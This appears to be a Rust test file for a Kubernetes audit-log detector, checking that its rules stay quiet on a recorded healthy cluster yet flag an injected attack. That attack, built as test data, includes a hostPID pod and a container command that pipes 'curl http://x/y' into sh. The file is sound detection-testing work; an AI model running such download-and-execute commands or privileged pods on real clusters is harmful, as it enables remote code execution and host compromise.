//! The shipped rules over the audit log of a healthy cluster at work (benign/record.sh): a real control plane (API server and
//! controller-manager), and what a script (benign/node.py) sends in the place of a scheduler and two kubelets; probes,
//! administrators, a developer, a pipeline and Helm. They stay quiet, and yet they see: an attack in the midst of it is found.

use std::{collections::BTreeMap, fs, io::Read, path::Path};

use flate2::read::GzDecoder;
use kubewitness::{
    api::rule::Severity,
    pipeline::Pipeline,
    record::{IdKey, Origin, Provenance, Record},
    redact,
};
use serde_json::{Value, json};

/// At most so many alerts above Low for each thousand events.
const LOUD_PER_THOUSAND: usize = 1;

fn recording() -> Vec<Value> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/benign/recordings/audit.jsonl.gz");
    let bytes =
        fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}; tests/benign/record.sh makes it", path.display()));
    let mut text = String::new();
    GzDecoder::new(bytes.as_slice()).read_to_string(&mut text).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn record(event: &Value) -> Record {
    let bytes = serde_json::to_vec(event).unwrap();
    let origin = Origin { cluster: "test".into(), reporter: "api".into(), provenance: Provenance::AuditLog };
    let at = event["stageTimestamp"].as_str().unwrap().parse().unwrap();
    let outcome = redact::audit_event(redact::Input { bytes: &bytes, oversize: false });
    redact::record(outcome, &bytes, &origin, at, &IdKey::OFFLINE)
}

fn after(events: &[Value]) -> Pipeline {
    let mut pipeline = crate::quiet::pipeline();
    for (seq, event) in (1..).zip(events) {
        pipeline.push(seq, &record(event));
    }
    pipeline
}

/// Rule and summary of each alert above Low.
fn loud(pipeline: &Pipeline) -> Vec<(String, String)> {
    pipeline
        .alerts()
        .filter(|alert| alert.severity() > Severity::Low)
        .map(|alert| (alert.rule.id.name.to_string(), alert.summary()))
        .collect()
}

/// The recording is of what its script says, so that the silence means something.
#[test]
fn the_recording_holds_what_a_healthy_cluster_does() {
    let events = recording();
    let count = |wanted: &dyn Fn(&Value) -> bool| events.iter().filter(|event| wanted(event)).count();
    let by = |event: &Value, pointer: &str, start: &str| {
        event.pointer(pointer).and_then(Value::as_str).is_some_and(|text| text.starts_with(start))
    };
    assert!(events.len() > 5_000, "{} events", events.len());
    for (what, least, found) in [
        ("controllers", 800, count(&|e| by(e, "/user/username", "system:serviceaccount:kube-system:"))),
        ("kubelets", 300, count(&|e| by(e, "/user/username", "system:node:"))),
        ("the scheduler", 50, count(&|e| by(e, "/user/username", "system:kube-scheduler"))),
        ("the API server itself", 100, count(&|e| by(e, "/user/username", "system:apiserver"))),
        ("anonymous health checks", 200, count(&|e| by(e, "/user/username", "system:anonymous"))),
        ("Helm", 200, count(&|e| by(e, "/userAgent", "Helm/"))),
        ("kubectl", 500, count(&|e| by(e, "/userAgent", "kubectl/"))),
        ("the pipeline", 50, count(&|e| by(e, "/user/username", "system:serviceaccount:shop:deployer"))),
        ("pods bound to nodes", 10, count(&|e| by(e, "/objectRef/subresource", "binding"))),
        ("refusals", 5, count(&|e| e["responseStatus"]["code"] == 403)),
    ] {
        assert!(found >= least, "{what}: {found} events");
    }
}

#[test]
fn a_healthy_cluster_raises_next_to_nothing_above_low() {
    let events = recording();
    let pipeline = after(&events);
    let counters = pipeline.counters();
    assert_eq!((counters.events, counters.unreadable), (events.len() as u64, 0));
    let loud = loud(&pipeline);
    let allowed = events.len() / 1_000 * LOUD_PER_THOUSAND;
    assert!(loud.len() <= allowed, "{} events raised {} alerts above Low: {loud:#?}", events.len(), loud.len());
    assert!(pipeline.failures().is_empty(), "rules without a value: {:?}", pipeline.failures());
}

/// The same way in: what a person does next, with the same client and credential, is found among all that.
#[test]
fn an_attack_in_the_midst_of_it_is_seen() {
    let events = recording();
    let quiet: BTreeMap<String, String> = loud(&after(&events)).into_iter().collect();
    let middle = events.len() / 2;
    let dana = events[..middle].iter().rfind(|event| event["user"]["username"] == "dana").unwrap();
    let mut with_attack = events.clone();
    for (resource, group, verb, body) in [
        ("pods", "", "create", json!({"spec": {"hostPID": true, "containers": [{"name": "a"}]}})),
        (
            "pods",
            "",
            "create",
            json!({"spec": {"containers": [{"name": "a", "command": ["sh", "-c", "curl http://x/y | sh"]}]}}),
        ),
    ] {
        let mut event = dana.clone();
        event["verb"] = json!(verb);
        event["level"] = json!("Request");
        event["objectRef"] =
            json!({"resource": resource, "apiGroup": group, "namespace": "shop", "name": "x", "apiVersion": "v1"});
        event["requestURI"] = json!("/api/v1/namespaces/shop/pods");
        event["responseStatus"] = json!({"code": 201});
        event["requestObject"] = body;
        with_attack.insert(middle, event);
    }
    let mut found: Vec<String> = loud(&after(&with_attack))
        .into_iter()
        .filter(|(rule, _)| !quiet.contains_key(rule))
        .map(|(rule, _)| rule)
        .collect();
    found.sort();
    assert_eq!(found, ["container-downloads-and-runs", "privileged-pod-created"]);
}
